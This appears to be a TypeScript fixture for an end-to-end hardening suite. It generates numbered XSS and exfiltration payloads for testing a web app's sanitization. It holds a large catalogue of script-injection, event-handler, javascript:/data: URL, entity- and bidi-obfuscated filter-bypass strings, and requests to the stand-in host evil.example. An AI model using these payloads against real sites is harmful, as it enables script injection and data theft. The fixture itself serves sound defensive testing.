/**
 * XSS and exfiltration payloads for the hardening suite (issue 10 part 5): the test server
 * answers with them (test-payload-N, test-payload-all) and e2e/hardening-xss.spec.ts puts them
 * in context items, names, variable values, imported files and share links. A payload that
 * runs calls `__pwned(N)` (the spec defines it and counts the calls) or `alert(N)`; one that
 * leaks asks for `http://evil.example/N…` (the e2e fixture fails on any request off 127.0.0.1).
 */
const HOST = "evil.example";

// {J} is the script, {U} a remote URL, {N} the payload's number.
const VECTORS: readonly string[] = [
  "<script>{J}</script>",
  '<img src=x onerror="{J}">',
  '<img src="{U}.png">',
  '<svg onload="{J}"></svg>',
  "<svg><script>{J}</script></svg>",
  '<iframe src="javascript:{J}"></iframe>',
  '<iframe srcdoc="<script>parent.{J}</script>"></iframe>',
  '<iframe src="{U}.html"></iframe>',
  '<a href="javascript:{J}">click me</a>',
  "[click me](javascript:{J})",
  "[click me](<javascript:{J}>)",
  "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  '<a href="data:text/html,<script>{J}</script>">data link</a>',
  "![tracking pixel]({U}.png)",
  "![tracking pixel](//" + HOST + "/{N}.png)",
  '![svg](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{J}"/>)',
  "<img src=\"data:image/svg+xml,<svg onload='{J}'>\">",
  '<div style="background:url({U}.png)">styled</div>',
  "<style>body{background:url({U}.css)}</style>",
  "<style>@import '{U}.css';</style>",
  '<link rel=stylesheet href="{U}.css">',
  '<link rel=prefetch href="{U}.prefetch">',
  '<object data="{U}.swf"></object>',
  '<embed src="{U}.swf">',
  '<body onload="{J}">',
  '<details open ontoggle="{J}"><summary>x</summary></details>',
  '<input autofocus onfocus="{J}">',
  '<video><source onerror="{J}"></video>',
  '<audio src=x onerror="{J}"></audio>',
  '<video poster="{U}.jpg"></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror="{J}">',
  '<noscript><p title="</noscript><img src=x onerror={J}>">',
  "&lt;script&gt;{J}&lt;/script&gt;",
  '<a href="jav&#x09;ascript:{J}">tab entity</a>',
  '<a href="&#106;avascript:{J}">decimal entity</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{J}">hex entities</a>',
  '<img src=x o\u202Enerror="{J}">',
  "\u202E<script>{J}</script>\u202C",
  "\u2066<img src=x onerror={J}>\u2069",
  '<meta http-equiv="refresh" content="0;url={U}.html">',
  '<form action="{U}.form"><button>go</button></form>',
  '<base href="{U}/">',
  '<img srcset="{U}.png 1x, {U}-2.png 2x">',
  '<svg><image href="{U}.svg"/></svg>',
  '<svg><a xlink:href="javascript:{J}"><text y="20">x</text></a></svg>',
  '<svg><animate onbegin="{J}" attributeName="x" dur="1s"/></svg>',
  "<template><script>{J}</script></template>",
  '<marquee onstart="{J}">m</marquee>',
  '<script src="{U}.js"></script>',
  "```html\n<script>{J}</script>\n```",
  "<<script>script>{J}<</script>/script>",
  "<scr<script>ipt>{J}</scr</script>ipt>",
  '"><script>{J}</script>',
  "'><img src=x onerror={J}>",
  "</textarea><script>{J}</script>",
  "</title><script>{J}</script>",
  "</style><script>{J}</script>",
  "{{constructor.constructor('{J}')()}}",
  "${{J}}",
  "<img src=x onerror=\"fetch('{U}.fetch')\">",
  "<img src=x onerror=\"navigator.sendBeacon('{U}.beacon')\">",
  '<a ping="{U}.ping" href="#x">ping</a>',
  "[ref link][r]\n\n[r]: javascript:{J}",
  "[ref image][r2]\n\n[r2]: {U}.ref.png",
  '<img src=x:x onerror="{J}">',
  '<isindex action="javascript:{J}" type=image>',
  '<x onpointerenter="{J}" style="position:fixed;inset:0">overlay</x>',
  '<table background="{U}.table.png"><tr><td>t</td></tr></table>',
];

function fill(template: string, n: number): string {
  return template.replaceAll("{J}", `__pwned(${n})`).replaceAll("{U}", `http://${HOST}/${n}`).replaceAll("{N}", String(n));
}

/** Case and wrapping variants, so filters keyed on lower case or on line starts are tried too. */
const VARIANTS: readonly ((p: string) => string)[] = [
  (p) => p,
  (p) =>
    `> quoted\n> ${p.replace(/<(\/?)([a-z]+)/g, (_, s: string, t: string) => `<${s}${t.toUpperCase()}`).replace(/onerror|onload/g, (h) => h.toUpperCase())}`,
  (p) => `- item with **bold** and ${p}\n\n| a | b |\n| - | - |\n| ${p.replace(/\n/g, " ").replace(/\|/g, "\\|")} | cell |`,
];

/** Every payload, numbered from 0. */
export const PAYLOADS: readonly string[] = VARIANTS.flatMap((variant, v) => VECTORS.map((t, i) => variant(fill(t, v * VECTORS.length + i))));

/** The answer for test-payload-N / test-payload-all. */
export function payloadAnswer(which: number | "all"): string {
  if (which === "all") return PAYLOADS.map((p, i) => `Payload ${i}: ${p}`).join("\n\n");
  return PAYLOADS[which % PAYLOADS.length]!;
}

export const PAYLOAD_HOST = HOST;
